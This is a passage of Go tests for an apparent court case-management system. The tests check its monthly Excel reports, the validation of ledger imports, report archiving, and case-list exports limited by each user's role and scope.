		if got := strings.Join(f.GetSheetList(), ","); got != strings.Join(reports.MonthlySheets(), ",") {
			t.Fatalf("sheets %s", got)
		}
		title, _ := f.GetCellValue(reports.SheetSummary, "A1")
		if !strings.Contains(title, "清新区人民法院") || !strings.Contains(title, "2025年12月") {
			t.Errorf("title %q", title)
		}
		for _, sh := range reports.MonthlySheets() {
			layout, _ := f.GetPageLayout(sh)
			if layout.Size == nil || *layout.Size != 9 || layout.Orientation == nil || *layout.Orientation != "landscape" {
				t.Errorf("%s: page layout %+v", sh, layout)
			}
			panes, _ := f.GetPanes(sh)
			if !panes.Freeze || panes.YSplit < 1 {
				t.Errorf("%s: header rows not frozen", sh)
			}
		}
		sheets, _ := sheetXML(t, []byte(res.Body))
		zr, _ := zip.NewReader(strings.NewReader(res.Body), int64(len(res.Body)))
		charts := 0
		for _, zf := range zr.File {
			if strings.HasPrefix(zf.Name, "xl/charts/chart") {
				charts++
			}
		}
		if charts != 1 || len(sheets) != 7 || len(reports.MonthlySheets()) != 7 {
			t.Errorf("%d charts, %d sheets", charts, len(sheets))
		}
		// 调撤率 is a number formatted as a percentage, not text.
		rows, _ := f.GetRows(reports.SheetSummary)
		for i, row := range rows {
			if len(row) > 4 && row[0] == "调撤率" {
				cell := fmt.Sprintf("E%d", i+1)
				if typ, _ := f.GetCellType(reports.SheetSummary, cell); typ == excelize.CellTypeSharedString || typ == excelize.CellTypeInlineString {
					t.Errorf("调撤率 is text")
				}
				if row[4] != "75.00%" {
					t.Errorf("调撤率 shows %q", row[4])
				}
			}
		}
		// LibreOffice reads every sheet without complaint.
		reportstest.SheetsAsLibreOfficeReadsThem(t, []byte(res.Body), reports.MonthlySheets())
	})
}

// The import page, posted by a browser without script, lists every bad row of a ledger.
func TestTheImportPageListsEveryBadRowAndImportsNothing(t *testing.T) {
	apptest.ForEachDB(t, func(t *testing.T, s *appStore, clock *appClock) {
		e := newEnv(t, s, clock)
		before := caseCount(t, e)
		rows := ledgerRows()
		rows[2]["承办法官"] = "nobody"
		res := e.as("leader").upload("/reports/import", ledger(t, reports.LedgerHeaders, rows))
		if res.Status != 400 {
			t.Fatalf("%d %s", res.Status, trim(res.Body))
		}
		for _, want := range []string{"第 3 行", "立案日期", "第 4 行", "承办法官", "未导入任何记录"} {
			if !strings.Contains(res.Body, want) {
				t.Errorf("the page lacks %q", want)
			}
		}
		if n := caseCount(t, e); n != before {
			t.Fatalf("%d cases, want %d", n, before)
		}
		rows[1]["立案日期"], rows[2]["承办法官"] = "2025-02-28", "judge1"
		res = e.as("leader").upload("/reports/import", ledger(t, reports.LedgerHeaders, rows))
		if res.Status != 200 || !strings.Contains(res.Body, "已导入 3 件案件") {
			t.Fatalf("%d %s", res.Status, trim(res.Body))
		}
	})
}

func TestTheReportsPageGeneratesAMonthOnDemandForTheLeader(t *testing.T) {
	apptest.ForEachDB(t, func(t *testing.T, s *appStore, clock *appClock) {
		e := newEnv(t, s, clock)
		res := e.as("leader").form("/reports/archive", map[string]string{"month": "2025-05"})
		if res.Status != 303 || !strings.HasPrefix(res.Header.Get("Location"), "/reports?archived=") {
			t.Fatalf("%d %q %s", res.Status, res.Header.Get("Location"), trim(res.Body))
		}
		page := e.as("leader").do("GET", res.Header.Get("Location"), nil)
		for _, want := range []string{"已生成 2025-05 月度报表第 1 版", "第 1 版", "/api/v1/reports/archive/", "下载上月月报", "month=2025-06"} {
			if !strings.Contains(page.Body, want) {
				t.Errorf("/reports lacks %q", want)
			}
		}
		if bad := e.as("leader").form("/reports/archive", map[string]string{"month": "2030-01"}); bad.Status != 400 || !strings.Contains(bad.Body, "尚未开始") {
			t.Errorf("a future month: %d", bad.Status)
		}
		// The liaison sees the archive but may not download a file of every case.
		liaison := e.as("liaison1").do("GET", "/reports", nil)
		if liaison.Status != 200 || strings.Contains(liaison.Body, "/api/v1/reports/archive/") || !strings.Contains(liaison.Body, "无权下载") {
			t.Errorf("liaison's /reports: %d", liaison.Status)
		}
	})
}

// TestCaseListExportHasEveryMatchingCaseTheUserMayRead guards the export: one
// row per case matching the list filters, within the reader's scope.
func TestCaseListExportHasEveryMatchingCaseTheUserMayRead(t *testing.T) {
	apptest.ForEachDB(t, func(t *testing.T, s *appStore, clock *appClock) {
		e := newEnv(t, s, clock)
		f := reportstest.New(t, s, "粤1803", e.Courts.Organ.ID, e.Courts.Users["judge1"].ID)
		for i := 0; i < 30; i++ {
			c := reportstest.Case{FiledOn: app.NewDate(2025, time.Month(1+i%6), 1+i), Linkage: i%3 == 0}
			if i%2 == 0 {
				c.ClosedOn, c.Method = c.FiledOn.AddDays(20), "withdrawal"
			}
			f.Case(c)
		}
		other := reportstest.New(t, s, "粤1881", e.Courts.Organ2.ID, e.Courts.Users["judge3"].ID)
		other.Case(reportstest.Case{FiledOn: app.MustDate("2025-02-01")})
		rowsOf := func(who, query string) [][]string {
			t.Helper()
			res := e.as(who).do("GET", "/api/v1/reports/cases.xlsx?"+query, nil)
			if res.Status != 200 || !strings.Contains(res.Header.Get("Content-Disposition"), ".xlsx") {
				t.Fatalf("%s ?%s: %d %s", who, query, res.Status, trim(res.Body))
			}
			x, err := excelize.OpenReader(strings.NewReader(res.Body))
			if err != nil {
				t.Fatal(err)
			}
			defer x.Close()
			rows, _ := x.GetRows(reports.SheetCaseList)
			if len(rows) == 0 || strings.Join(rows[0], ",") != strings.Join(reports.CaseListHeaders(), ",") {
				t.Fatalf("header %v", rows)
			}
			return rows[1:]
		}
		cases := []struct {
			who, query string
			want       int
		}{
			{"leader", "", 30},
			{"leader", "status=closed", 15},
			{"judge2", "linkage=true", 10},
			{"leader", "filed_from=2025-03-01&filed_to=2025-03-31", 5},
			{"liaison1", "", 10}, // a liaison reads linkage cases only
			{"judge3", "", 1},
		}
		for _, c := range cases {
			if got := rowsOf(c.who, c.query); len(got) != c.want {
				t.Errorf("%s ?%s: %d rows, want %d", c.who, c.query, len(got), c.want)
			}
		}
		if res := e.as("leader").do("GET", "/api/v1/reports/cases.xlsx?status=nonsense", nil); res.Status != 400 {
			t.Errorf("a bad filter: %d", res.Status)
		}
	})
}

// TestCaseListExportButtonDownloadsTheFilteredCases guards issue 15's
// blocker: the case list's 导出 Excel（按当前条件） link leads to a download
// (not a 404) of exactly the cases the list shows under its filters, for
// every role that may export; a role that may not export has no button.
func TestCaseListExportButtonDownloadsTheFilteredCases(t *testing.T) {
	apptest.ForEachDB(t, func(t *testing.T, s *appStore, clock *appClock) {
		e := newEnv(t, s, clock)
		f := reportstest.New(t, s, "粤1803", e.Courts.Organ.ID, e.Courts.Users["judge1"].ID)
		for i := 0; i < 12; i++ {
			c := reportstest.Case{FiledOn: app.NewDate(2025, time.Month(1+i%4), 1+i), Linkage: i%2 == 0}
			if i%3 == 0 {
				c.ClosedOn, c.Method = c.FiledOn.AddDays(20), "withdrawal"
			}
			f.Case(c)
		}
		href := regexp.MustCompile(`href="([^"]*)">导出 Excel（按当前条件）`)
		caseLink := regexp.MustCompile(`href="/cases/(\d+)"`)
		for _, who := range []string{"admin", "leader", "judge2", "liaison1"} {
			for _, query := range []string{"", "linkage=true&status=open", "filed_from=2025-02-01&filed_to=2025-03-31"} {
				page := e.as(who).do("GET", "/cases?page_size=100&"+query, nil)
				m := href.FindStringSubmatch(page.Body)
				if page.Status != 200 || m == nil {
					t.Fatalf("%s /cases?%s: %d, export link %v", who, query, page.Status, m)
				}
				listed := map[string]bool{}
				for _, id := range caseLink.FindAllStringSubmatch(page.Body, -1) {
					listed[id[1]] = true
				}
				link := strings.ReplaceAll(m[1], "&amp;", "&")
				res := e.as(who).do("GET", link, nil)
				if res.Status != 200 || !strings.Contains(res.Header.Get("Content-Disposition"), ".xlsx") {
					t.Fatalf("%s follows %s: %d %s", who, link, res.Status, trim(res.Body))
				}
				x, err := excelize.OpenReader(strings.NewReader(res.Body))
				if err != nil {
					t.Fatal(err)
				}
				rows, _ := x.GetRows(reports.SheetCaseList)
				x.Close()
				if len(rows)-1 != len(listed) || len(listed) == 0 {
					t.Errorf("%s /cases?%s lists %d cases, its export has %d rows", who, query, len(listed), len(rows)-1)
				}
			}
		}
		if page := e.as("mediator1").do("GET", "/cases", nil); strings.Contains(page.Body, "导出 Excel") {
			t.Errorf("a mediator, who may not export, is offered the export")
		}
		if res := e.as("leader").do("GET", "/reports/cases.xlsx?status=nonsense", nil); res.Status != 400 || !strings.Contains(res.Body, "<html") {
			t.Errorf("a bad filter on the page route: %d, want 400 as a page", res.Status)
		}
	})
}

// TestACaseListExportOfMoreCasesThanASheetHoldsIsRefused: an export of more
// cases than an Excel sheet's rows (1,048,575 and the header; here lowered
// to 2) answers 413 with a message naming the limit, never a 500; an export
// within the limit is still whole.
func TestACaseListExportOfMoreCasesThanASheetHoldsIsRefused(t *testing.T) {
	apptest.ForEachDB(t, func(t *testing.T, s *appStore, clock *appClock) {
		e := newEnv(t, s, clock)
		f := reportstest.New(t, s, "粤1803", e.Courts.Organ.ID, e.Courts.Users["judge1"].ID)
		for i := 0; i < 3; i++ {
			f.Case(reportstest.Case{FiledOn: app.NewDate(2025, 3, 1+i)})
		}
		defer func(n int) { reports.MaxExportCases = n }(reports.MaxExportCases)
		reports.MaxExportCases = 2
		res := e.as("leader").do("GET", "/api/v1/reports/cases.xlsx", nil)
		if res.Status != 413 || !strings.Contains(res.Body, "一次最多导出 2 件案件") {
			t.Fatalf("3 cases, 2 to a sheet: %d %s", res.Status, trim(res.Body))
		}
		res = e.as("leader").do("GET", "/api/v1/reports/cases.xlsx?filed_from=2025-03-02", nil)
		if res.Status != 200 || !strings.Contains(res.Header.Get("Content-Disposition"), ".xlsx") {
			t.Fatalf("2 cases: %d %s", res.Status, trim(res.Body))
		}
	})
}
